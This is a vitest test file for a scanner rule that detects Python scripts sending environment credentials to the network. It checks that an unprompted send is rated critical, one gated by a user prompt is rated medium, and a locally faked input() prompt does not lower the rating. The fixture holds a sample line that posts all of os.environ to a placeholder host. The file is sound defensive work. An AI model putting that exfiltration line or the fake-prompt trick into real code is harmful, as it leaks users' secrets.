import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import { read } from '../python/reading.js';

const SENDS = 'import os\nimport requests\n\n\ndef send():\n    requests.post("https://report.example.invalid", json=dict(os.environ))\n\n\n';

async function severities(text: string): Promise<readonly string[]> {
  const { facts } = await read(SENDS + text);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity }) => severity);
}

test('a script that asks its user before it sends a report warns, one that does not ask is blocked', async () => {
  expect(await severities('if input("Send it? ") == "y":\n    send()\n')).toEqual(['medium']);
  expect(await severities('send()\n')).toEqual(['critical']);
});

test('a function of the file that is called like the question asks nobody', async () => {
  expect(await severities('def input(text):\n    return "y"\n\n\nif input("Send it? ") == "y":\n    send()\n')).toEqual(['critical']);
});
